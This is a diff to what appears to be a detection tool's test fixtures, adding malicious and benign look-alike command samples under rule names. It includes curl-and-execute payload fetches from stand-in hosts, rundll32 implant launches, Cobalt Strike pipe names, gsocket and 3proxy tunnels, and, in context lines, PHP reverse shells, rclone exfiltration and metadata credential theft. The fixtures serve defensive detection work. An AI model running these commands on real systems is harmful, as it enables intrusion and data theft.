@@ -780,6 +780,24 @@ SAMPLES = {
         ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sh"])),
         ("audit.log", audit(["sh", "-c", "echo aWQK | base64 -d | sha1sum"]) + audit(["ls", "-l", "/dev/shm/x"]) +
                       audit(["cat", "/etc/ld.so.preload"]))),
+    "implant_lazarus_command": (
+        ("h", "curl http://192.0.2.7:1224/client/5346 -o /tmp/.npl && python3 /tmp/.npl\n"),
+        ("h", "curl http://192.0.2.7:1224/status -o /tmp/s && python3 /tmp/s.py\nrundll32.exe shell32.dll,Control_RunDLL desk.cpl\n")),
+    "implant_update_by_pasted_command": (
+        ("h", "nohup curl -L https://d.example/fix.zip -o /tmp/fix.zip && unzip -o /tmp/fix.zip -d /tmp/fix && bash /tmp/fix/u.sh &\n"),
+        ("h", "curl -L https://d.example/tool.zip -o tool.zip && unzip tool.zip && bash install.sh\n")),
+    "implant_cobalt_strike_pipe": (
+        ("a.evtx", wide("PipeName: \\msagent_8f")),
+        ("a.evtx", wide("PipeName: \\mojo.1234.5678\r\n\\\\.\\pipe\\msagent"))),
+    "tunnel_frp_command_named_by_advisory": (
+        ("a.evtx", wide("C:\\Users\\Public\\BrightmetricAgent.exe -c frpc.ini")),
+        ("a.evtx", wide("C:\\Program Files\\Brightmetrics\\BrightmetricsAgent.exe -c agent.ini"))),
+    "tunnel_gsocket": (
+        ("h", "gs-netcat -s SecretHere -l -i\n"),
+        ("h", "apt install gsocket\ngs-netcat --help\n")),
+    "tunnel_3proxy_command": (
+        ("a.log", "c:\\perflogs\\3proxy.exe c:\\perflogs\\3proxy.cfg\r\n"),
+        ("h", "/usr/bin/3proxy /etc/3proxy/3proxy.cfg\n")),
     "credential_cloud_metadata_asked": (
         ("h", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web\n"),
         ("h", "curl -s http://169.254.169.254/latest/meta-data/instance-id\n")),
@@ -950,6 +968,14 @@ QUOTED = [
     ("lotl_rclone_exfiltration", 'rclone.exe copy "\\\\fs1\\finance" mega:data -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12'),
     ("lotl_rclone_exfiltration", "rclone --config C:\\Users\\Public\\r.conf copy d:\\data r:x"),
     ("lotl_packed_text_to_shell", "python -c \"exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('aW1wb3J0IG9z')[0]))\""),
+    ("implant_lazarus_command", 'rundll32.exe "C:\\ProgramData\\ThumbNail\\thumbnail.db", CtrlPanel S-6-81-3811-75432205-060098-6872 0 0 905'),
+    ("implant_lazarus_command", "rundll32 x.bin,CtrlPanel S-6-81-3811-75432205-060098-6872"),
+    ("implant_lazarus_command", "curl -Lo C:\\Users\\a\\.npl http://192.0.2.7:1224/client/99"),
+    ("implant_cobalt_strike_pipe", "\\\\.\\pipe\\msagent_89"),
+    ("implant_cobalt_strike_pipe", "\\\\.\\pipe\\MSSE-1676-server"),
+    ("tunnel_frp_command_named_by_advisory", "BrightmetricAgent.exe -c C:\\Windows\\Temp\\frpc.ini"),
+    ("tunnel_frp_command_named_by_advisory", "C:\\Users\\Public\\SMSvcService.exe"),
+    ("tunnel_3proxy_command", "3proxy.exe 3proxy.cfg"),
     ("credential_cloud_metadata_asked", "curl -H \"X-aws-ec2-metadata-token: $T\" http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
     ("credential_cloud_metadata_asked", 'Invoke-RestMethod -Headers @{Metadata="true"} -Uri http://169.254.169.254/metadata/identity/oauth2/token'),
 ]
@@ -1035,12 +1061,18 @@ QUOTED_PLAIN = [
     ("lotl_fetch_from_address", "curl -sL https://192.0.2.7/x.sh | bash"),
     ("lotl_fetch_from_address", "bash <(curl -s http://192.0.2.7:8000/x.sh)"),
     ("lotl_fetch_from_address", 'sh -c "$(wget -qO- http://192.0.2.7/x)"'),
+    ("tunnel_gsocket", 'bash -c "$(curl -fsSL https://gsocket.io/y)"'),
+    ("tunnel_gsocket", "curl -fsSL https://gsocket.io/x | bash"),
+    ("tunnel_gsocket", "gs-netcat -s MySecret -l"),
+    ("tunnel_gsocket", 'GS_ARGS="-k /usr/bin/defunct.dat -liqD" /bin/bash -c "exec -a \'[kcached]\' /usr/bin/defunct"'),
     ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);exec("sh <&3 >&3 2>&3");\''),
     ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);shell_exec("sh <&3 >&3 2>&3");\''),
     ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);system("/bin/bash <&3 >&3 2>&3");\''),
     ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);`sh <&3 >&3 2>&3`;\''),
     ("reverse_shell_script_language", 'php -r \'$sock=fsockopen("192.0.2.7",443);$proc=proc_open("sh", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);\''),
     ("reverse_shell_script_language", 'php -r "\\$sock=fsockopen(\\"192.0.2.7\\",443);popen(\\"sh <&3 >&3 2>&3\\", \\"r\\");"'),
+    ("implant_update_by_pasted_command", "nohup curl -L https://api.d.example/v/fix.zip -o /var/tmp/fix.zip && unzip -o /var/tmp/fix.zip -d /var/tmp/fix && bash /var/tmp/fix/run.sh >/dev/null 2>&1 &"),
+    ("implant_update_by_pasted_command", "curl -k -o /var/tmp/cam.sh https://api.d.example/cam.sh && chmod +x /var/tmp/cam.sh && nohup bash /var/tmp/cam.sh >/dev/null 2>&1 &"),
     ("lotl_linux_system_program_restamped", "touch -acmr /bin/ls /usr/bin/.x"),
     ("lotl_linux_system_program_restamped", "touch --reference=/usr/bin/ls /lib/x86_64-linux-gnu/security/pam_unix.so"),
     ("lotl_linux_system_program_restamped", "touch -t 202001010101 /usr/sbin/sshd"),
